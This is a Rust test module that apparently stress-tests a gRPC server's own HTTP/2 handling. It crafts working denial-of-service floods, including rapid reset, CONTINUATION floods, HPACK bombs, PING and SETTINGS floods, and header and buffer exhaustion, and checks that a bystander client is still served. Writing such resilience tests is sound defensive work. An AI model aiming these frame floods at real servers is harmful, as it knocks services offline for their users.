//! Floods of HTTP/2 frames that carry no useful data.

use std::{io, time::Duration};

use futures_util::future::join_all;
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tonic_health::pb::{HealthCheckRequest, health_client::HealthClient};

use crate::{
    messages::same_pair,
    raw,
    scenes::{box_points, plain},
    support::{
        CHECK, INFO, QUERY, STREAM,
        arena::Arena,
        dial::Stream,
        http2::{
            CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, Peer, RST_STREAM, SETTINGS, Windows,
            frame, header_block, literal,
        },
    },
};

attacks! {
    /// Catches calls that accumulate when they are reset as fast as they are made (CVE-2023-44487).
    rapid_reset: "calls that are reset as fast as they are made" => rapid_reset;
    /// Catches a header block that never ends and is kept in memory (CVE-2024-27316).
    continuation: "headers that never end" => continuation;
    /// Catches a change of the windows of all streams that costs the time of all of them, as often as a peer
    /// likes: two connections kept both threads busy.
    all_windows: "SETTINGS that change the windows of 1,000 streams again and again" => all_windows;
    /// Catches headers whose table takes many times their text, on health checks that take no memory.
    many_headers: "health checks of 470 short headers each, whose messages never come" => many_headers;
    /// Catches acknowledgements of SETTINGS that accumulate for a peer that does not read them.
    settings: "endless SETTINGS frames whose acknowledgements are not read" => settings;
    /// Catches answers to PING that accumulate for a peer that does not read them.
    pings: "endless PING frames whose answers are not read" => pings;
    /// Catches connections that are read for as long as they send, one after the other, while others wait.
    read_pings: "endless PING frames on 200 connections that read the answers" => read_pings;
    /// Catches connections that keep the right to be read while their sockets take no bytes, so that other
    /// connections of the same address are never read.
    blocked: "PING frames on 4 TLS connections that read nothing, and others of the same address",
        |s: Setup| s.tls() => blocked;
    /// Catches headers that grow when they are decompressed.
    hpack: "headers that are small until they are decompressed" => hpack;
    /// Catches headers whose decoding takes a serving thread for seconds.
    resizes: "headers of 1 MiB that change the size of HPACK's table" => resizes;
    /// Catches read buffers that small frames keep in memory, of which the windows count only the frames.
    pinned: "small frames between unknown ones, behind an answer that is not read" => pinned_buffers;
    /// Catches calls that can keep their headers in memory for an unlimited time without sending a message.
    headers: "10,000 calls of 15 KiB of headers each, whose messages never come" => large_headers;
    /// Catches small frames whose bookkeeping costs more memory than their bytes, while a stream computes.
    small_frames: "frames of one byte while a stream computes" => small_frames;
    /// Catches empty frames, which flow control does not count, while a stream computes.
    empty_frames: "empty frames while a stream computes" => empty_frames;
}

/// Runs 4 attackers, each of which repeats the attack on new connections, until the bystander has been
/// answered often enough.
async fn again_and_again(arena: &Arena, attack: impl AsyncFn(&Arena) -> io::Result<()>) {
    let attackers = (0..4).map(async |_| {
        loop {
            // The attack ends in an error when the server closes the connection.
            let _ = attack(arena).await;
        }
    });
    tokio::select! {
        () = arena.bystander_answered(arena.size().of(400)) => {}
        _ = join_all(attackers) => {}
    }
}

async fn rapid_reset(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        let block = header_block(QUERY, &[]);
        loop {
            let mut both = Vec::new();
            for _ in 0..100 {
                let stream = peer.next_stream();
                both.extend(frame(HEADERS, END_HEADERS, stream, &block));
                both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            peer.send(&both).await?;
        }
    })
    .await;
}

async fn all_windows(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        for _ in 0..arena.size().of(1000) {
            peer.call(STREAM, &[]).await?;
        }
        let window = |bytes: u32| frame(SETTINGS, 0, 0, &[&[0, 4][..], &bytes.to_be_bytes()].concat());
        let both = [window(0), window(i32::MAX as u32)].concat().repeat(100);
        loop {
            peer.send(&both).await?;
        }
    })
    .await;
}

async fn many_headers(arena: &Arena) {
    let names: Vec<String> = ('a'..='z')
        .flat_map(|a| ('a'..='z').map(move |b| format!("{a}{b}")))
        .filter(|name| name != "te")
        .collect();
    let headers: Vec<(&str, &str)> = names.iter().take(430).map(|name| (name.as_str(), "")).collect();
    arena.begin().await;
    let mut peers = Vec::new();
    for _ in 0..arena.size().of(600) {
        let Ok(mut peer) = arena.peer(Windows::OPEN).await else { continue };
        for _ in 0..16 {
            if peer.call(CHECK, &headers).await.is_err() {
                break;
            }
        }
        peers.push(peer);
    }
    arena.bystander_answered(arena.size().of(400)).await;
}

async fn continuation(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        let stream = peer.next_stream();
        peer.send(&frame(HEADERS, 0, stream, &header_block(QUERY, &[]))).await?;
        let mut more = Vec::new();
        literal(&mut more, "x-more", &"m".repeat(16_000));
        let more = frame(CONTINUATION, 0, stream, &more);
        loop {
            peer.send(&more).await?;
        }
    })
    .await;
}

async fn settings(arena: &Arena) {
    // The frame sets ENABLE_PUSH to 0, which it already is, so it changes nothing.
    never_read(arena, frame(SETTINGS, 0, 0, &[0, 2, 0, 0, 0, 0])).await;
}

async fn pings(arena: &Arena) {
    never_read(arena, frame(PING, 0, 0, b"pingpong")).await;
}

async fn read_pings(arena: &Arena) {
    let flood = frame(PING, 0, 0, b"pingpong").repeat(1000);
    arena.begin().await;
    let attackers = (0..arena.size().of(200)).map(async |_| {
        loop {
            let Ok(mut stream) = greeted(arena).await else { continue };
            let mut answers = vec![0; 64 << 10];
            while stream.write_all(&flood).await.is_ok()
                && stream.read(&mut answers).await.is_ok_and(|bytes| bytes > 0)
            {}
        }
    });
    tokio::select! {
        () = arena.bystander_answered(arena.size().of(400)) => {}
        _ = join_all::<_>(attackers) => {}
    }
}

async fn blocked(arena: &Arena) {
    let flood = frame(PING, 0, 0, b"pingpong").repeat(arena.size().of(400_000));
    arena.begin().await;
    let attackers = (0..4).map(async |_| {
        let mut stream = greeted(arena).await?;
        // The server no longer reads, or closes the connection.
        let _ = tokio::time::timeout(Duration::from_secs(1), stream.write_all(&flood)).await;
        Ok::<_, io::Error>(stream)
    });
    let held = join_all::<_>(attackers).await;
    for _ in 0..4 {
        let request = HealthCheckRequest { service: String::new() };
        let health = async { HealthClient::new(arena.channel().await).check(request).await };
        let answer = tokio::time::timeout(Duration::from_secs(5), health).await;
        assert!(answer.is_ok_and(|answer| answer.is_ok()), "another connection of the address is not read");
    }
    arena.bystander_answered(arena.size().of(400)).await;
    drop(held);
}

/// A connection on which the client has sent the beginning of HTTP/2.
async fn greeted(arena: &Arena) -> io::Result<Box<dyn Stream>> {
    let mut stream = arena.stream().await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(stream)
}

/// Sends the frame again and again and reads nothing.
async fn never_read(arena: &Arena, flood: Vec<u8>) {
    let flood = flood.repeat(1000);
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut stream = greeted(arena).await?;
        loop {
            // The server may defend itself by no longer reading; then this write waits.
            stream.write_all(&flood).await?;
        }
    })
    .await;
}

async fn hpack(arena: &Arena) {
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        // One header that is stored in the HPACK table, then one byte for each further use of it.
        let mut bomb = header_block(QUERY, &[]);
        let mut kept = Vec::new();
        literal(&mut kept, "x", &"b".repeat(4000));
        kept[0] = 0x40;
        bomb.extend(kept);
        bomb.extend([0xbe; 12_000]);
        loop {
            let stream = peer.next_stream();
            peer.send(&frame(HEADERS, END_HEADERS, stream, &bomb)).await?;
        }
    })
    .await;
}

async fn resizes(arena: &Arena) {
    // Three bytes set the size of the table to 4,096.
    let block = [[0x3f, 0xe1, 0x1f].repeat(340_000), header_block(QUERY, &[])].concat();
    arena.begin().await;
    again_and_again(arena, async |arena| {
        let mut peer = arena.peer(Windows::OPEN).await?;
        loop {
            let stream = peer.next_stream();
            peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
        }
    })
    .await;
}

async fn pinned_buffers(arena: &Arena) {
    // Empty messages; the unknown frame fills the rest of the buffer into which the server reads.
    let messages = frame(DATA, 0, 1, &[0; 300]);
    let unknown = frame(0xfa, 0, 0, &[0; 8300]);
    let both = [messages, unknown].concat().repeat(50);
    arena.begin().await;
    let mut peers = Vec::new();
    for _ in 0..arena.size().of(200) {
        // The server may defend itself by refusing or closing the connection.
        let Ok(mut peer) = arena.peer(Windows { stream: 0, connection: 0 }).await else { continue };
        if peer.call(STREAM, &[]).await.is_err() {
            continue;
        }
        for _ in 0..100 {
            // After 3 s without room the server no longer reads from this connection.
            let sent = tokio::time::timeout(Duration::from_secs(3), peer.send(&both)).await;
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
        }
        peers.push(peer);
    }
    arena.bystander_answered(arena.size().of(400)).await;
    drop(peers);
}

async fn large_headers(arena: &Arena) {
    let large = "h".repeat(15_000);
    arena.begin().await;
    let mut peers = Vec::new();
    for _ in 0..10 {
        let Ok(mut peer) = arena.peer(Windows::OPEN).await else { continue };
        for _ in 0..arena.size().of(1000) {
            if peer.call(QUERY, &[("x-large", &large)]).await.is_err() {
                break;
            }
        }
        peers.push(peer);
    }
    arena.bystander_answered(arena.size().of(400)).await;
}

async fn small_frames(arena: &Arena) {
    beside_computing(arena, &[0]).await;
}

async fn empty_frames(arena: &Arena) {
    beside_computing(arena, &[]).await;
}

/// On each of 4 connections, sends frames with this payload while the stream's first message is computed.
async fn beside_computing(arena: &Arena, payload: &[u8]) {
    let ids = arena.register(&[plain(box_points(0.5, 0.5, 0.5))]).await;
    let question = same_pair(&ids, arena.size().of(131_072), 0.9).encode_to_vec();
    let question = raw::frame(false, &question);
    arena.begin().await;
    again_and_again(arena, async |arena| {
        // The answer is not read, so that the server does not come to read the rest of the stream.
        let mut peer = arena.peer(Windows { stream: 1000, connection: 1 << 20 }).await?;
        let stream = peer.call(STREAM, &[]).await?;
        peer.body(stream, &question, false).await?;
        let frames = frame(DATA, 0, stream, payload).repeat(100);
        loop {
            if payload.is_empty() {
                peer.send(&frames).await?;
            } else {
                peer.body(stream, payload, false).await?;
            }
        }
    })
    .await;
    // The attacker's closed connections count for its address until the server has noticed their end.
    while let Err(refused) = ask_for_information(arena).await {
        println!("the attacker's address is refused for now: {refused}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// An ordinary call from the attacker's address.
async fn ask_for_information(arena: &Arena) -> io::Result<()> {
    let mut peer: Peer = arena.peer(Windows::OPEN).await?;
    let call = peer.ask(INFO, &raw::frame(false, &[])).await?;
    peer.ended(call).await?;
    Ok(())
}
